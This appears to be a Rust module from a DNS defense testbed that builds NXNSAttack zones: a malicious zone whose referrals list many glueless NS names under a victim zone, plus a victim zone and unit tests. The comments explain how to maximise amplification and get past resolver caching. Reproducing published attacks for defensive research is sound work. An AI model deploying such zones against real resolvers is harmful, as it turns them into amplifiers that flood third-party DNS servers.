//! NXNSAttack zone builders (Afek, Bremler-Barr & Shafir; see
//! PAPERS.md).
//!
//! The attack weaponizes referral handling instead of flooding anyone
//! directly: a malicious zone answers every delegated query with a
//! referral whose NS names are glueless and *out of bailiwick* — all
//! hosted under a victim zone the attacker does not control. A
//! recursive resolver must fetch addresses for those names before it
//! can proceed, so one client query fans out into up to 2N
//! infrastructure queries (A + AAAA per NS name) against the victim's
//! authoritative server, every one of them a legitimate-looking
//! resolver query the Dike defenses never see coming.
//!
//! Each delegation cut serves exactly one attack query (`w.s<q>.…`), so
//! an attack client cycling through fresh cut indices defeats both the
//! referral cache and the failure cache.

use std::net::Ipv4Addr;

use dike_wire::{Name, RData, Record};

use crate::zone::{default_soa, Zone};

/// TTL on every record of the malicious zone.
const TTL: u32 = 300;

/// Shape of the malicious delegation zone.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct NxnsZoneConfig {
    /// NS fan-out per delegation cut: how many glueless
    /// out-of-bailiwick NS names each referral lists. The packet
    /// amplification factor scales linearly with this.
    pub fanout: usize,
    /// Number of delegation cuts — one per unique attack query. A cut
    /// that is queried twice amplifies only once (the resolver caches
    /// both the referral and the victim's negative answers).
    pub cuts: usize,
}

impl Default for NxnsZoneConfig {
    fn default() -> Self {
        NxnsZoneConfig {
            fanout: 20,
            cuts: 64,
        }
    }
}

/// The delegation cut serving attack query `q`: `s<q>.<origin>`.
pub(crate) fn cut_name(origin: &Name, q: usize) -> Name {
    origin.child(&format!("s{q}")).expect("valid label")
}

/// The query name an attack client sends for cut `q`: `w.s<q>.<origin>`
/// — one label below the cut, so the zone answers with a referral.
pub fn query_name(origin: &Name, q: usize) -> Name {
    cut_name(origin, q).child("w").expect("valid label")
}

/// The `j`-th victim-hosted NS name of cut `q`: `n<q>-<j>.<victim>`.
/// Unique per (cut, slot), so the victim sees every fetch as a fresh
/// name and negative caching never dampens the storm.
pub(crate) fn ns_target(victim: &Name, q: usize, j: usize) -> Name {
    victim.child(&format!("n{q}-{j}")).expect("valid label")
}

/// Builds the attacker's malicious zone at `origin`, served by
/// `server_addr`: an apex NS plus `cfg.cuts` delegation cuts, each
/// listing `cfg.fanout` NS names under `victim`. The zone holds no
/// address records for those targets (and could not — they are outside
/// its bailiwick), so every referral it hands out is glueless.
pub fn attacker_zone(
    origin: &Name,
    victim: &Name,
    server_addr: Ipv4Addr,
    cfg: &NxnsZoneConfig,
) -> Zone {
    assert!(cfg.fanout > 0, "nxns fan-out must be positive");
    let mut z = Zone::new(origin.clone(), TTL, default_soa(origin));
    let apex_ns = origin.child("ns").expect("valid label");
    z.add(Record::new(origin.clone(), TTL, RData::Ns(apex_ns.clone())));
    z.add(Record::new(apex_ns, TTL, RData::A(server_addr)));
    for q in 0..cfg.cuts {
        let cut = cut_name(origin, q);
        for j in 0..cfg.fanout {
            z.add(Record::new(
                cut.clone(),
                TTL,
                RData::Ns(ns_target(victim, q, j)),
            ));
        }
    }
    z
}

/// Builds the victim zone at `origin`, served by `server_addr`: just an
/// apex NS and its glue. Every `n<q>-<j>.<origin>` lookup the attack
/// provokes lands here as NXDOMAIN — the victim's only role is to
/// absorb (and count) the amplified query load.
pub fn victim_zone(origin: &Name, server_addr: Ipv4Addr, ttl: u32) -> Zone {
    let mut z = Zone::new(origin.clone(), ttl, default_soa(origin));
    let apex_ns = origin.child("ns").expect("valid label");
    z.add(Record::new(origin.clone(), ttl, RData::Ns(apex_ns.clone())));
    z.add(Record::new(apex_ns, ttl, RData::A(server_addr)));
    z
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::zone::ZoneAnswer;
    use dike_wire::{Question, RecordType};

    fn name(s: &str) -> Name {
        Name::parse(s).unwrap()
    }

    fn cfg() -> NxnsZoneConfig {
        NxnsZoneConfig { fanout: 5, cuts: 3 }
    }

    #[test]
    fn attack_queries_draw_glueless_fanout_referrals() {
        let z = attacker_zone(
            &name("attack"),
            &name("victim"),
            Ipv4Addr::new(203, 0, 113, 66),
            &cfg(),
        );
        for q in 0..3 {
            match z.answer(&Question::new(
                query_name(&name("attack"), q),
                RecordType::A,
            )) {
                ZoneAnswer::Referral { ns, glue } => {
                    assert_eq!(ns.len(), 5, "cut {q} lists the full fan-out");
                    assert!(glue.is_empty(), "cut {q} must be glueless");
                    for r in &ns {
                        let RData::Ns(target) = &r.rdata else {
                            panic!("NS rdata expected");
                        };
                        assert!(
                            target.is_subdomain_of(&name("victim")),
                            "NS target {target} must live under the victim zone"
                        );
                    }
                }
                other => panic!("expected referral, got {other:?}"),
            }
        }
    }

    #[test]
    fn ns_targets_are_unique_per_cut_and_slot() {
        let a = ns_target(&name("victim"), 0, 1);
        let b = ns_target(&name("victim"), 1, 0);
        assert_ne!(a, b);
        assert_eq!(a, name("n0-1.victim"));
    }

    #[test]
    fn victim_answers_ns_target_lookups_with_nxdomain() {
        let z = victim_zone(&name("victim"), Ipv4Addr::new(203, 0, 113, 99), 300);
        for rtype in [RecordType::A, RecordType::AAAA] {
            assert!(matches!(
                z.answer(&Question::new(ns_target(&name("victim"), 4, 2), rtype)),
                ZoneAnswer::NxDomain { .. }
            ));
        }
        // The apex itself resolves (the root's delegation needs it).
        assert!(matches!(
            z.answer(&Question::new(name("ns.victim"), RecordType::A)),
            ZoneAnswer::Authoritative { .. }
        ));
    }
}
